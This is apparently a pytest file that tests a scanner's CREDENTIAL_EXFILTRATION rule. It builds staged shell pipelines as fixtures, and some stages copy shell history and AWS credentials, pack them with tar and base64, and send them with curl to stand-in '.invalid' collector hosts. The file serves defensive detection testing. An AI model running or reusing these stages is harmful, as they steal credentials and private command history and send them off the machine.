"""Pipeline stages in separate scripts hand files through a folder named at run time (``$WORK``,
exported by a runner): one copies secrets into it, one packs them, one loops over the folder's
listing (``for f in "$WORK"/out/*``) and sends each file. The loop variable keeps the listing's
spelling, so the send meets what the earlier stages put there. Hosts are ``.invalid``."""

from __future__ import annotations

from pathlib import Path

import pytest

from behaviour_files import scan_errors

_RUNNER = '#!/usr/bin/env bash\nexport WORK="${TMPDIR:-/tmp}/nightly"\nfor s in stages/[0-9]*.sh; do bash "$s"; done\n'

_GATHER = {
    "shell history": (
        '#!/usr/bin/env bash\nmkdir -p "$WORK/logs"\n'
        'for h in .bash_history .zsh_history; do\n  cp -f "$HOME/$h" "$WORK/logs/session${h}"\ndone\n'
    ),
    "cloud credentials": (
        '#!/usr/bin/env bash\nmkdir -p "$WORK/logs"\ncp -f ~/.aws/credentials "$WORK/logs/aws.txt"\n'
    ),
}

_PACK = {
    "tar and base64": (
        '#!/usr/bin/env bash\nmkdir -p "$WORK/out"\n'
        'tar czf - -C "$WORK" logs | base64 > "$WORK/out/$(hostname)-$(date +%s).b64"\n'
    ),
    "tar then gzip": (
        '#!/usr/bin/env bash\nmkdir -p "$WORK/out"\n'
        'tar cf - -C "$WORK" logs | gzip -9 > "$WORK/out/night-$(date +%F).tgz"\n'
    ),
}

_SHIP = {
    "curl data-binary to a configured collector": (
        '#!/usr/bin/env bash\n. "$(dirname "$0")/../conf/ship.conf"\n'
        'for f in "$WORK"/out/*; do\n  curl -s --data-binary @"$f" "$COLLECTOR" && rm -f "$f"\ndone\n'
    ),
    "curl upload to a written host": (
        '#!/usr/bin/env bash\nfor f in "$WORK"/out/*; do\n  curl -s -T "$f" https://ingest.night-logs.invalid/in/\ndone\n'
    ),
}


def _files(gather: str, pack: str, ship: str) -> dict[str, str]:
    return {
        "run-all.sh": _RUNNER,
        "stages/10-gather.sh": gather,
        "stages/20-pack.sh": pack,
        "stages/30-ship.sh": ship,
        "conf/ship.conf": "COLLECTOR=https://collector.night-logs.invalid/ingest\n",
    }


@pytest.mark.parametrize("gather", _GATHER)
@pytest.mark.parametrize(("pack", "ship"), [("tar and base64", "curl data-binary to a configured collector"),
                                             ("tar then gzip", "curl upload to a written host")])  # fmt: skip
def test_secrets_staged_packed_and_sent_by_a_loop_over_the_listing(
    tmp_path: Path, gather: str, pack: str, ship: str
) -> None:
    errors = scan_errors(tmp_path, _files(_GATHER[gather], _PACK[pack], _SHIP[ship]))
    assert any(rule == "CREDENTIAL_EXFILTRATION" and path == "stages/30-ship.sh" for rule, path, _ in errors)


def test_ordinary_logs_staged_packed_and_sent_are_quiet(tmp_path: Path) -> None:
    gather = '#!/usr/bin/env bash\nmkdir -p "$WORK/logs"\ncp -f /tmp/indi*.log "$WORK/logs/" 2>/dev/null || true\n'
    files = _files(gather, _PACK["tar and base64"], _SHIP["curl data-binary to a configured collector"])
    assert not scan_errors(tmp_path, files)
